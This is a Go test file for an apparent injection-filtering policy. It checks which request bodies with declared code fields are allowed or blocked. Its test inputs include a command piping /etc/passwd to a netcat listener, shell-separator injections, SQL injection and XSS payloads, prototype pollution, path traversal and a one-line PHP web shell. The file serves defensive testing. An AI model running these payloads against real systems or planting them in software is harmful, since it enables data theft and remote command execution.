package policies

import (
	"strings"
	"testing"
)

// TestDeclaredCode: a code-named field of an object that declares its language (or a source
// file name) is not inspected as live input while code_context is on; every other field is, the
// declaration must name a real language, and custom rules still apply.
func TestDeclaredCode(t *testing.T) {
	const cmd = `cat /etc/passwd | nc 10.0.0.1 4444`
	custom := `{"injection":{"custom_rules":[{"id":"no-passwd","locations":["body"],"literal":"/etc/passwd"}]}}`
	for _, tc := range []struct {
		config, body string
		want         int
	}{
		{`{}`, `{"language":"shell","content":"` + cmd + `"}`, 200},
		{`{}`, `{"lang":"Bash","code":"` + cmd + `"}`, 200},
		{`{}`, `{"files":{"deploy.sh":{"content":"` + cmd + `"}}}`, 200},
		{`{}`, `{"filename":"main.py","source":"os.system('` + cmd + `')"}`, 200},
		{`{}`, `[{"language":"sql","snippet":"SELECT * FROM users WHERE id = 1 OR 1=1"}]`, 200},
		{`{}`, `{"path":"db/migrations/001_init.sql","content":"CREATE TABLE t (id int); -- ' OR 1=1"}`, 200},
		{`{}`, `{"path":"../../x.sql","content":"` + cmd + `"}`, 403},
		{`{}`, `{"asset":{"key":"assets/custom.css","value":".btn::after { content: \"\\2192\"; } select { background: url(\"data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0l5 6z'/></svg>\") }"}}`, 200},
		{`{}`, `{"key":"theme","value":"` + cmd + `"}`, 403},
		// Not code-named: inspected.
		{`{}`, `{"language":"shell","host":"` + cmd + `"}`, 403},
		{`{}`, `{"language":"shell","content":{"x":"` + cmd + `"}}`, 403},
		// Not a language, not a source file.
		{`{}`, `{"language":"english","content":"` + cmd + `"}`, 403},
		{`{}`, `{"filename":"notes","content":"` + cmd + `"}`, 403},
		{`{}`, `{"files":{"deploy":{"content":"` + cmd + `"}}}`, 403},
		// The declaration covers its own object only.
		{`{}`, `{"language":"shell","meta":{"content":"` + cmd + `"}}`, 403},
		// The key itself is still checked structurally.
		{`{}`, `{"language":"js","content":"x","__proto__":{"admin":true}}`, 403},
		// A value that starts with a separator is an injected fragment, declared or not.
		{`{}`, `{"language":"shell","content":"; cat /etc/passwd"}`, 403},
		{`{}`, `{"steps":[{"run":"| id"}]}`, 403},
		// Command lists: command injection and traversal are not inspected, the rest is.
		{`{}`, `{"steps":[{"name":"build","run":"npm run build && npm run lint"}]}`, 200},
		{`{}`, `{"script":["go vet ./...","gofmt -l . | tee /dev/stderr"]}`, 200},
		{`{}`, `{"scripts":{"clean":"rm -rf dist coverage"}}`, 200},
		{`{}`, `{"scripts":{"x":"' OR 1=1 --"}}`, 403},
		{`{}`, `{"run":"<script>alert(1)</script>"}`, 403},
		{`{}`, `{"runs":"` + cmd + `"}`, 403},
		// SQL fields: a statement is not inspected for SQL injection; other families are.
		{`{}`, `{"name":"Active users","sql":"SELECT country, COUNT(DISTINCT user_id) FROM events WHERE event_name = 'login' AND ts > now() - interval '30 days' GROUP BY country"}`, 200},
		{`{}`, `{"sql":"1' OR '1'='1"}`, 403},
		{`{}`, `{"sql":"EXPLAIN ANALYZE SELECT * FROM orders WHERE customer_id = 42 AND status IN ('paid', 'shipped');"}`, 200},
		{`{}`, `{"sql":"-- cleanup\nBEGIN;\nDROP TABLE IF EXISTS tmp_x;\nCOMMIT;"}`, 200},
		{`{}`, `{"sql":"-- x\n' OR 1=1 --"}`, 403},
		{`{}`, `{"query":"SELECT * FROM users WHERE name = 'a' OR 'x'='x'"}`, 403},
		{`{}`, `{"sql":"SELECT '<script>alert(1)</script>'"}`, 403},
		// Notebook cells, config formats and forms that declare a language.
		{`{}`, `{"cell_type":"code","source":["!ls -la ../models | head\n","` + cmd + `"]}`, 200},
		{`{}`, `{"cell_type":"code","outputs":["` + cmd + `"]}`, 403},
		{`{}`, `{"format":"nginx","content":"location / { proxy_pass http://app; } # ` + cmd + `"}`, 200},
		{`{}`, "language=python&code=import+os%3B+os.system%28%27id%27%29", 200},
		{`{}`, "language=english&code=%3B+cat+%2Fetc%2Fpasswd", 403},
		{`{}`, "language=python&host=%3B+cat+%2Fetc%2Fpasswd", 403},
		{`{}`, "language=python&code=%3B+cat+%2Fetc%2Fpasswd", 403},
		// A patch in a text body.
		{`{}`, "diff --git a/x.js b/x.js\n--- a/x.js\n+++ b/x.js\n@@ -1,1 +1,1 @@\n-  return `SELECT * FROM t WHERE n LIKE '%${q}%'`;\n+  return q;\n", 200},
		{`{}`, "diff --git a/x b/x\n; cat /etc/passwd", 403},
		// A single hunk (a review comment's diff_hunk) and a notebook cell with a cell magic.
		{`{}`, `{"diff_hunk":"@@ -38,7 +38,7 @@ export class Repo {\n-    const sql = \"SELECT * FROM users WHERE id = '\" + id + \"'\";\n+    const sql = 'SELECT * FROM users WHERE id = $1';"}`, 200},
		{`{}`, `{"code":"%%bash\ncd /workspace/data && head -n 5 sales.csv | cut -d, -f1-3"}`, 200},
		{`{}`, `{"code":"%%bash; cat /etc/passwd"}`, 403},
		{`{}`, `{"diff_hunk":"@@ -1 +1 @@; cat /etc/passwd"}`, 403},
		// A CI pipeline in YAML: its commands are run by design; SQLi and XSS still apply.
		{`{}`, `{"yaml":"name: build\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-22.04\n    steps:\n      - run: npm ci && npm test -- --coverage > /tmp/cov.txt\n"}`, 200},
		{`{}`, `{"yaml":"stages: [test]\ntest:\n  script:\n    - pip install -r requirements.txt\n    - cat /etc/os-release\n"}`, 200},
		{`{}`, `{"yaml":"jobs:\n  x:\n    steps:\n      - run: echo '<script>alert(1)</script>'\n"}`, 403},
		{`{}`, `{"notes":"jobs: none\nfoo\n; cat /etc/passwd"}`, 403},
		// A Dockerfile and a SQL file in a text body.
		{`{}`, "# build\nFROM python:3.12-slim\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\nCMD [\"python\", \"app.py\"]\n", 200},
		{`{}`, "-- up\nCREATE TABLE orders (\n  id bigserial PRIMARY KEY\n);\n-- down\nDROP TABLE IF EXISTS orders;\n", 200},
		{`{}`, "SELECT 1;\nSELECT 2 FROM t WHERE a = '' OR 1=1 -- x;\n", 403},
		{`{}`, "ALTER TABLE t CHARACTER SET utf8\n", 200},
		// A script file in a text body.
		{`{}`, "#!/bin/sh\nset -e\ncd ~/src/app && make release VERSION=$(date +%Y)\n", 200},
		{`{}`, "#!/bin/sh\n; cat /etc/passwd\n", 200},
		{`{}`, "#!/bin/sh; cat /etc/passwd", 403},
		{`{}`, "cd ~/src/app && cat /etc/passwd\nmore\nlines\n", 403},
		// Log lines in a text body or a JSON field: stored and shown; XSS still applies.
		{`{}`, "2024-04-25T10:12:09.871Z WARN slow query: SELECT * FROM orders WHERE id = 1 OR 1=1\n2024-04-25T10:12:10.002Z ERROR sh: cat /etc/passwd: permission denied\n  at run (/srv/app/x.js:1:1)\n", 200},
		{`{}`, `{"logs":"Apr 25 10:12:09 web1 sshd[811]: Failed password for root\nApr 25 10:12:10 web1 CRON[90]: (root) CMD (cd / && run-parts /etc/cron.hourly)"}`, 200},
		{`{}`, "203.0.113.9 - - [25/Apr/2024:10:12:09 +0000] \"GET /search?q=1'+OR+'1'='1 HTTP/1.1\" 200 12\n203.0.113.9 - - [25/Apr/2024:10:12:10 +0000] \"GET /../../etc/passwd HTTP/1.1\" 404 0\n", 200},
		{`{}`, "2024-04-25T10:12:09Z a\n2024-04-25T10:12:10Z <script>alert(1)</script>\n", 403},
		// Stack traces pasted into tickets.
		{`{}`, "Traceback (most recent call last):\n  File \"/srv/app/x.py\", line 3, in run\n    os.system('cat /etc/passwd | wc -l')\nOSError: boom\n", 200},
		{`{}`, "java.lang.IllegalStateException: SELECT * FROM t WHERE a = '' OR 1=1 --\n\tat com.acme.A.run(A.java:10)\n\tat com.acme.B.main(B.java:3)\n", 200},
		{`{}`, "Traceback (most recent call last):\n; cat /etc/passwd\n", 403},
		{`{}`, "Traceback (most recent call last):\n  File \"x\"\n<script>alert(1)</script>", 403},
		// Newline-delimited JSON: each line's values are inspected on their own.
		{`{}`, "{\"msg\":\"GET /search?q=union+jack 200 12ms\"}\n{\"msg\":\"slow query: SELECT * FROM products WHERE tags @> ARRAY['sale'] (812ms)\"}\n", 200},
		{`{}`, "{\"a\":\"x\"}\n{\"q\":\"1' UNION SELECT password FROM users--\"}\n", 403},
		{`{}`, "{\"a\":\"x\"}\n{\"__proto__\":{\"admin\":true}}\n", 403},
		{`{}`, "{\"a\":\"x\"}\nnot json ' OR 1=1 --\n", 403},
		// Prometheus exposition text and robots.txt: line-oriented data.
		{`{}`, "# HELP job_duration_seconds Duration\n# TYPE job_duration_seconds gauge\njob_duration_seconds{job=\"backup\",path=\"/etc/passwd\"} 42.7\njob_last_success 1709280000\n", 200},
		{`{}`, "User-agent: *\nDisallow: /admin/\nDisallow: /*?sort=\nAllow: /static/*.css$\n\nSitemap: https://www.example.com/sitemap.xml\n", 200},
		{`{}`, "User-agent: *\nDisallow: /admin/\n; cat /etc/passwd\n", 403},
		{`{}`, "metric{a=\"<script>alert(1)</script>\"} 1\nmetric2 2\n", 403},
		// One timestamp is not a log; most lines must be stamped; the first line must be.
		{`{}`, "2024-04-25T10:12:09Z x'; DROP TABLE users; --", 403},
		{`{}`, "2024-04-25T10:12:09Z a\n2024-04-25T10:12:10Z b\n; cat /etc/passwd\nx\ny\n", 403},
		{`{}`, "; cat /etc/passwd\n2024-04-25T10:12:09Z a\n2024-04-25T10:12:10Z b\n", 403},
		// A key that is a glob matches files, it does not open one; a key that is a path does.
		{`{}`, `{"files.exclude":{"**/.git":true,"**/node_modules":true}}`, 200},
		{`{}`, `{"/etc/passwd":1}`, 403},
		{`{}`, `{"**/../../etc/passwd":1}`, 403},
		// Switched off; custom rules apply.
		{`{"injection":{"code_context":false}}`, `{"language":"shell","content":"` + cmd + `"}`, 403},
		{`{"injection":{"code_context":false}}`, `{"scripts":{"clean":"rm -rf dist coverage"}}`, 403},
		{custom, `{"language":"shell","content":"` + cmd + `"}`, 403},
		// Multipart uploads: a script file is code, a PHP page is not.
		{`{}`, "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"run.sh\"\r\n\r\n" + cmd + "\r\n--B--\r\n", 200},
		{`{}`, "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n--B--\r\n", 403},
		{`{}`, "--B\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n" + cmd + "\r\n--B--\r\n", 403},
	} {
		ct := "application/json"
		switch {
		case strings.HasPrefix(tc.body, "--B"):
			ct = "multipart/form-data; boundary=B"
		case strings.HasPrefix(tc.body, "language="):
			ct = "application/x-www-form-urlencoded"
		case !strings.HasPrefix(tc.body, "{") && !strings.HasPrefix(tc.body, "["):
			ct = "text/plain"
		}
		d, _ := runInj(injEngine(t, tc.config), injReq{method: "POST", path: "/api/gists", ct: ct, body: tc.body})
		got := 200
		if d.Action == Deny {
			got = d.Status
		}
		if got != tc.want {
			t.Errorf("config %s body %s: status %d, want %d", tc.config, tc.body, got, tc.want)
		}
	}
}

func TestCodeFileName(t *testing.T) {
	for name, want := range map[string]bool{
		"deploy.sh": true, "Main.PY": true, "Dockerfile": true, "index.html": true,
		"notes": false, ".sh": false, "../x.sh": false, "a/b.py": false, "report.pdf": false,
	} {
		if got := codeFileName(name); got != want {
			t.Errorf("codeFileName(%q) = %v, want %v", name, got, want)
		}
	}
}

func TestCodeUpload(t *testing.T) {
	for name, want := range map[string]bool{
		"fix-null.patch": true, "deploy.sh": true, "dump.sql": true, "notes.txt": true,
		"shell.php": false, "shell.php.txt": false, "x.phtml": false, "page.html": false, "img.svg": false,
		"app.js": false, "a.jsp": false, "photo.jpg": false, "": false,
	} {
		if got := codeUpload(name); got != want {
			t.Errorf("codeUpload(%q) = %v, want %v", name, got, want)
		}
	}
}

// FuzzBodyShapes runs the whole-value shape checks (scripts, patches, cells, build files, SQL
// files, logs, traces, line-oriented data, CI pipelines, GraphQL) on arbitrary input: none may
// panic, and a value that starts with a shell separator is never a CI pipeline.
func FuzzBodyShapes(f *testing.F) {
	for _, s := range []string{
		"#!/bin/sh\nls\nx\n", "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", "@@ -1 +1 @@\n-a\n+b",
		"%%bash\nls\n", "FROM x\nRUN y\n", "-- c\nSELECT 1;\n", "2024-04-25T10:12:09Z a\n2024-04-25T10:12:10Z b\n",
		"Traceback (most recent call last):\n  File \"x\"\nE: y\n", "# HELP a b\na 1\n", "jobs:\n  x:\n    steps:\n      - run: ls\n",
		"query { a }",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		_ = shebangScript(s) || unifiedDiff(s) || notebookCell(s) || dockerfile(s) || sqlScript(s)
		_ = logText(s) || recordText(s) || stackTrace(s)
		if ciPipeline(s) && leadingBreakout(s) {
			t.Fatalf("ciPipeline(%q) with a leading break-out", s)
		}
		_, _ = graphQLDocument(s)
	})
}
